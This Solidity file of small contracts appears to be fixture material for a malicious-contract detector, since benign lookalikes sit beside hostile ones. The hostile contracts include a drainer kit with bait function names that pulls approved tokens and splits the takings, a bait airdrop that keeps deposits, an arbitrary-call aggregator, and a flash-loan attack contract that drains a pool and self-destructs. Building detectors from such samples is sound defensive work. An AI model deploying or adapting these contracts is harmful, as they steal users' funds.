// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IERC20, IPair} from "./Interfaces.sol";
import {PairMath} from "./PairMath.sol";

/// An aggregator that people give allowances to. Flawed on purpose: it calls whatever it is told to call.
contract OpenAggregator {
    event Swapped(address indexed user, address indexed target);

    function swapThrough(address target, bytes calldata data) external payable {
        (bool done, ) = target.call{value: msg.value}(data);
        require(done, "failed");
        emit Swapped(msg.sender, target);
    }
}

/// Sells for people who placed an order, when somebody calls it: the proceeds are theirs.
contract LimitOrders {
    IPair private immutable pair;
    mapping(address => uint256) public amountOf;
    mapping(address => address) public tokenOf;

    event OrderPlaced(address indexed user, address token, uint256 amount);
    event OrderFilled(address indexed user, uint256 amountIn, uint256 amountOut);

    constructor(IPair pair_) {
        pair = pair_;
    }

    function place(address token, uint256 amount) external {
        (tokenOf[msg.sender], amountOf[msg.sender]) = (token, amount);
        emit OrderPlaced(msg.sender, token, amount);
    }

    function fill(address user) external {
        uint256 amount = amountOf[user];
        delete amountOf[user];
        IERC20(tokenOf[user]).transferFrom(user, address(pair), amount);
        emit OrderFilled(user, amount, PairMath.swapSent(pair, tokenOf[user], amount, user));
    }
}

/// A subscription service's monthly round.
contract BatchCollector {
    address private immutable owner = msg.sender;

    event Collected(address indexed payer, uint256 amount);

    function collectAll(IERC20 token, address[] calldata payers, uint256 amount) external {
        require(msg.sender == owner, "not the owner");
        for (uint256 i = 0; i < payers.length; i++) {
            token.transferFrom(payers[i], owner, amount);
            emit Collected(payers[i], amount);
        }
    }
}

/// A known drainer's kit: bait names, many takings in one call, a fifth for the kit's maker and the rest for the affiliate.
contract DrainerKit {
    address payable private immutable maker;
    address payable private immutable affiliate = payable(msg.sender);

    constructor(address payable maker_) {
        maker = maker_;
    }

    function SecurityUpdate() external payable {
        split();
    }

    function Claim() external payable {
        split();
    }

    function multicall(IERC20[] calldata tokens, address[] calldata owners, uint256[] calldata amounts) external {
        require(msg.sender == affiliate, "not the affiliate");
        for (uint256 i = 0; i < tokens.length; i++) {
            tokens[i].transferFrom(owners[i], maker, amounts[i] / 5);
            tokens[i].transferFrom(owners[i], affiliate, amounts[i] - amounts[i] / 5);
        }
    }

    function split() private {
        uint256 fifth = address(this).balance / 5;
        maker.transfer(fifth);
        affiliate.transfer(address(this).balance);
    }
}

/// Bait that keeps what comes, until its owner takes it.
contract BaitAirdrop {
    address payable private immutable owner = payable(msg.sender);

    function claimAirdrop() external payable {}

    function withdraw() external {
        owner.transfer(address(this).balance);
    }
}

/// An airdrop that costs a fee, and gives.
contract FeeAirdrop {
    IERC20 private immutable token;
    uint256 private immutable amount;

    event Claimed(address indexed account, uint256 amount);

    constructor(IERC20 token_, uint256 amount_) {
        (token, amount) = (token_, amount_);
    }

    function claimAirdrop() external payable {
        token.transfer(msg.sender, amount);
        emit Claimed(msg.sender, amount);
    }
}

/// Divides what comes between partners.
contract RevenueSplitter {
    address payable private immutable first;
    address payable private immutable second;

    event PaymentReleased(address to, uint256 amount);

    constructor(address payable first_, address payable second_) {
        (first, second) = (first_, second_);
    }

    receive() external payable {}

    function release() external {
        uint256 half = address(this).balance / 2;
        first.transfer(half);
        second.transfer(half);
        emit PaymentReleased(first, half);
        emit PaymentReleased(second, half);
    }
}

/// Sells its earnings when anybody asks for it. Flawed on purpose: at any price.
contract AutoCompounder {
    IPair private immutable pair;
    IERC20 private immutable earnings;

    event Compounded(uint256 sold, uint256 bought);

    constructor(IPair pair_, IERC20 earnings_) {
        (pair, earnings) = (pair_, earnings_);
    }

    function compound() external {
        uint256 amount = earnings.balanceOf(address(this));
        emit Compounded(amount, PairMath.swapOwn(pair, address(earnings), amount));
    }
}

interface ILocker {
    function withdrawTo(address token, uint256 amount, address to) external;
    function deposit(address token, uint256 amount) external;
    function withdraw(address token, uint256 amount) external;
    function depositOf(address user, address token) external view returns (uint256);
}

/// Looks how much is there and takes it.
contract ReadAndTake {
    address private immutable owner = msg.sender;

    function take(ILocker locker, IERC20 token) external {
        require(msg.sender == owner, "not the owner");
        locker.withdrawTo(address(token), token.balanceOf(address(locker)), address(this));
        token.transfer(owner, token.balanceOf(address(this)));
    }
}

/// A saver's contract: looks at what it has there and takes it home.
contract SavingAgent {
    address private immutable owner = msg.sender;

    function save(ILocker locker, IERC20 token) external {
        token.approve(address(locker), type(uint256).max);
        locker.deposit(address(token), token.balanceOf(address(this)));
    }

    function takeHome(ILocker locker, IERC20 token) external {
        require(msg.sender == owner, "not the owner");
        locker.withdraw(address(token), locker.depositOf(address(this), address(token)));
        token.transfer(owner, token.balanceOf(address(this)));
    }
}

/// Pays a number of small amounts, as many as the caller says.
contract PayRound {
    mapping(uint256 => uint256) public paidIn;
    uint256 public round;

    event RoundPaid(uint256 indexed round, uint256 count);

    function payRound(uint256 count) external {
        round += 1;
        for (uint256 i = 0; i < count; i++) paidIn[round * 100000 + i] = block.timestamp;
        emit RoundPaid(round, count);
    }
}

/// Made for one deed: knows its victims by address, takes flash loans in several houses' ways, and ends itself.
contract PreparedAttack {
    address private immutable owner = msg.sender;
    IPair private immutable pair;
    address private immutable pool;
    address private immutable lender;
    IERC20 private immutable weth;
    IERC20 private immutable usd;

    constructor(IPair pair_, address pool_, address lender_, IERC20 weth_, IERC20 usd_) {
        (pair, pool, lender, weth, usd) = (pair_, pool_, lender_, weth_, usd_);
    }

    fallback() external payable {
        require(tx.origin == owner, "not the owner");
        (bool done, ) = lender.call(
            abi.encodeWithSignature("flashLoan(address,address[],uint256[],bytes)", address(this), new address[](0), new uint256[](0), "")
        );
        if (done) selfdestruct(payable(owner));
    }

    function receiveFlashLoan(address[] calldata, uint256[] calldata, uint256[] calldata, bytes calldata) external {
        work();
    }

    function executeOperation(address[] calldata, uint256[] calldata, uint256[] calldata, address, bytes calldata) external returns (bool) {
        work();
        return true;
    }

    function uniswapV2Call(address, uint256, uint256, bytes calldata) external {
        work();
    }

    function uniswapV3FlashCallback(uint256, uint256, bytes calldata) external {
        work();
    }

    function onFlashLoan(address, address, uint256, uint256, bytes calldata) external returns (bytes32) {
        work();
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    function work() private {
        require(tx.origin == owner, "not the owner");
        usd.approve(pool, type(uint256).max);
        weth.approve(pool, type(uint256).max);
        (bool done, ) = pool.call(abi.encodeWithSignature("borrow(uint256)", usd.balanceOf(pool)));
        if (done) PairMath.swapOwn(pair, address(usd), usd.balanceOf(address(this)));
        weth.transfer(owner, weth.balanceOf(address(this)));
    }
}
